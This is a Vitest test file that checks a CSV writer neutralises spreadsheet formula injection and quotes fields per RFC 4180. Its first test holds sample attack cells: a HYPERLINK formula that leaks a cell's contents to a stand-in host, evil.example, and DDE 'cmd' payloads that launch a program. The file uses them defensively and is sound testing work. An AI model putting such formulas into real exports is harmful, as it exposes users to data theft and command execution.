import { describe, expect, it } from 'vitest';
import { csvLine, neutralizeFormula, quoteCsvField } from './csv-writer.js';

describe('csvLine', () => {
  it('turns cells a spreadsheet would run as formulas into text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")',
      "=cmd|' /C calc'!A0",
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '+1+cmd|\' /C calc\'!A0',
      '-1+cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    expect(csvLine(hostile, ';')).toBe(
      [
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A1;""Нажмите"")"',
        "'=cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+cmd|' /C calc'!A0",
        "'-1+cmd|' /C calc'!A0",
        "'\t=1+1",
        '"\'\r=1+1"',
      ].join(';'),
    );
  });

  it('escapes text cells that merely look like numbers, and leaves numbers given as numbers alone', () => {
    // A phone or an amount that reached us as text is escaped: it cannot be told from a hostile one.
    expect(csvLine(['+7 912 345-67-89', '-5', 42, -1250.5, 0], ',')).toBe("'+7 912 345-67-89,'-5,42,-1250.5,0");
    expect(csvLine([Number.NEGATIVE_INFINITY, Number.NaN], ',')).toBe("'-Infinity,NaN");
  });

  it('quotes per RFC 4180: delimiter, quotes and line breaks', () => {
    expect(csvLine(['a', 'b;c', 'say "hi"', 'x\ny', 'd,e', null, undefined, ''], ';')).toBe('a;"b;c";"say ""hi""";"x\ny";d,e;;;');
    expect(csvLine(['d,e', 'tab\tinside'], ',')).toBe('"d,e",tab\tinside');
    // A formula behind the delimiter stays inside its quoted cell: it never starts a cell.
    expect(csvLine(['x;=1+1'], ';')).toBe('"x;=1+1"');
  });

  it('leaves ordinary text untouched', () => {
    expect(neutralizeFormula('Иванова Анна')).toBe('Иванова Анна');
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(quoteCsvField('=x', ',')).toBe('=x');
  });
});
